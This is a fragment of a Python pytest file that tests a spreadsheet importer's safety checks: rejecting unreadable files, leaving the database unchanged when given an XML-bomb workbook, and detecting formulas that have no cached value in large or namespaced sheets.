                       (b"PAR1" + random_bytes(100) + b"PAR1", "x.parquet"),
                       (io.BytesIO(b"").getvalue(), "x.csv")]:
        with pytest.raises(ReadError):
            read_workbook(data, name)


def test_check_never_writes(db, tmp_path):
    """`check` (the Import page's first step) on a hostile file writes nothing either."""
    before = snapshot(db)
    checked = check(xml_bomb(tmp_path / "bombe.xlsx", "sharedStrings"), db=db)
    assert not checked.ok and "déclarations XML interdites" in checked.report.render()
    assert_same(before, snapshot(db))


def test_uncached_formula_far_down_a_big_sheet_is_found(db, tmp_path):
    """The sheet is scanned in 4 Mo chunks cut at row ends: a formula at row 30 001 (past
    several chunks) is still found and located."""
    from tests.test_crash_safety import big_rows, fast_xlsx

    base = fast_xlsx(tmp_path / "base.xlsx", big_rows("M", 625))  # 30 000 rows
    name = "xl/worksheets/sheet1.xml"
    xml = part(base, name)
    assert len(xml) > 2 * safety.CHUNK  # the formula sits past the second chunk
    target = re.search(rb'<c r="E30001"><v>[^<]*</v></c>', xml)
    assert target is not None
    xml = xml[:target.start()] + b'<c r="E30001"><f>SUM(E2:E30000)</f></c>' + xml[target.end():]
    path = rezip(base, tmp_path / "gros-formule.xlsx", {name: xml})
    assert_rejected(db, tmp_path, path, ["Formule(s) sans valeur calculée dans l'onglet "
                                         "« valeurs »", "cellule(s) E30001."])


def test_sheet_scan_finds_formulas_with_or_without_a_namespace_prefix():
    """The scan's vectorised pre-test lets every formula element through to the exact one:
    <f> and a prefixed <x:f>, with or without a cached value, and never mistakes text."""
    def scan(xml: str) -> safety._SheetScan:
        found = safety._SheetScan("valeurs")
        found.feed(xml.encode())
        found.feed(b"", final=True)
        return found

    plain = scan('<row r="2"><c r="E2"><f>40+4.5</f></c><c r="F2"><f>1</f><v>1</v></c></row>')
    assert (plain.formulas, plain.n_uncached, plain.uncached) == (2, 1, ["E2"])
    prefixed = scan('<x:row r="3"><x:c r="B3"><x:f t="shared" ref="B3:B9" si="0"/></x:c>'
                    '<x:c r="C3"><x:f\n>2</x:f><x:v>2</x:v></x:c></x:row>')
    assert (prefixed.formulas, prefixed.n_uncached, prefixed.uncached) == (2, 1, ["B3"])
    text = scan('<row r="4"><c r="A4" t="inlineStr"><is><t>reference &lt;f f:f</t></is></c>'
                '</row>')
    assert (text.formulas, text.n_uncached) == (0, 0)
